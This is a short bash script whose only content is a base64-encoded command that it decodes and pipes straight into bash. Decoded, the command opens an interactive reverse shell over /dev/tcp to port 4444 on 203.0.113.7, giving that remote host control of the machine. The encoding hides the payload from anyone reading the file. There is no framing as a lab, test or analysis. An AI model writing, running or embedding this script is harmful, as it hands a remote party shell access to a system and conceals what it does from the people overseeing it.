#!/bin/bash
# YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=
echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 --decode | bash
